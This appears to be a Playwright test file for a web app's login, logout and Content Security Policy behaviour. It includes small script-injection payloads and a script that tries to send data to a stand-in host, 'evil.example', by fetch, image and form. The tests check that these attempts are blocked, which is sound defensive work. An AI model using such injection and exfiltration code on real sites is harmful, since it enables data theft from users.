"""A login as a person has it: in one tab or two, until they log out."""

from __future__ import annotations

import re
import signal

import pytest

from tests.ui.conftest import StartSite
from tests.ui.live_site import LiveSite


def test_the_first_visit_shows_the_commits(site: LiveSite) -> None:
    site.redis.set("key", "value")
    site.backup.commit("first commit")

    site.page.goto("/")

    assert "first commit" in site.page.inner_text("main")


OF_COMMITS = ["/search", "/diff", "/key?name=a", "/key/history?name=a", "/key/blame?name=a"]
OF_COMMITS += ["/restore", "/revert?commit=HEAD", "/commit/HEAD"]


@pytest.mark.few(1)
@pytest.mark.parametrize("path", OF_COMMITS)
def test_before_the_first_commit_a_page_says_how_to_begin(site: LiveSite, path: str) -> None:
    assert (response := site.page.goto(path))
    assert response.status == 200
    assert site.page.inner_text("h1") == "Nothing is kept yet"
    assert "gitbackup commit" in site.page.inner_text("main")
    site.page.click("main a.button")
    assert site.page.url == f"{site.url}/"


def test_the_address_is_in_no_history(site: LiveSite) -> None:
    """Neither in the field for addresses, nor behind the button that leads back."""
    assert site.page.url == f"{site.url}/"
    site.page.go_back()
    assert site.page.url == "about:blank"


@pytest.mark.long
def test_whoever_logs_out_leaves_nothing_on_the_screen(site: LiveSite) -> None:
    """In any tab: neither by a click nor by the button that leads back."""
    site.redis.set("key", "value")
    site.backup.commit("first commit")
    site.page.goto("/")
    other = site.tab()
    other.goto("/settings")

    site.page.click("footer button")

    assert site.page.inner_text("h1") == "You are logged out."
    site.page.go_back()
    site.page.wait_for_load_state()
    assert "first commit" not in site.page.content()
    other.click("a.home")
    assert other.inner_text("h1") == "You are not logged in."
    assert site.context.cookies() == []


@pytest.mark.long
def test_two_sites_in_one_browser_do_not_disturb_each_other(start_site: StartSite) -> None:
    """A browser has one jar of cookies for all ports of a host."""
    first, second = start_site(), start_site()
    page = first.context.new_page()
    second.process.send_signal(signal.SIGUSR1)
    page.goto(second.next_entrance())
    assert page.url == f"{second.url}/"
    assert len(first.context.cookies()) == 2
    for site in (first, second):
        page.goto(f"{site.url}/settings")
        assert page.query_selector("footer form[action='/leave']")


HARM = {
    "markup of text": "document.body.innerHTML = '<b>'",
    "a script in the page": """{
        const script = document.createElement("script");
        script.append("window.harmed = 1");
        document.head.append(script);
        if (!window.harmed) throw new Error();
    }""",
    "an event in an attribute": """{
        document.body.setAttribute("onclick", "window.harmed = 1");
        document.body.click();
        if (!window.harmed) throw new Error();
    }""",
}


@pytest.mark.few(1)
@pytest.mark.parametrize("harm", HARM.values(), ids=HARM)
def test_a_script_that_slips_in_does_nothing(site: LiveSite, harm: str) -> None:
    done = "() => { try { " + harm + "; return 'harmed' } catch { return 'refused' } }"
    assert site.page.evaluate(done) == "refused"
    assert site.complaints
    site.complaints.clear()


def test_a_script_that_slips_in_tells_nobody(site: LiveSite) -> None:
    """Not by a request, nor by an image, nor by a form."""
    with site.page.expect_console_message(lambda message: "form-action" in message.text):
        site.page.evaluate(
            """async (url) => {
                await fetch(url, {mode: "no-cors"}).catch(() => {});
                await new Promise((done) => {
                    const image = new Image();
                    image.onerror = done;
                    image.src = url;
                });
                const form = document.createElement("form");
                form.action = url;
                document.body.append(form);
                form.submit();
            }""",
            "http://evil.example:1/",
        )
    assert site.page.url == f"{site.url}/"
    found = [re.search(r'directive: "([\w-]+)', each) for each in site.complaints]
    site.complaints.clear()
    assert {each[1] for each in found if each} == {"connect-src", "img-src", "form-action"}
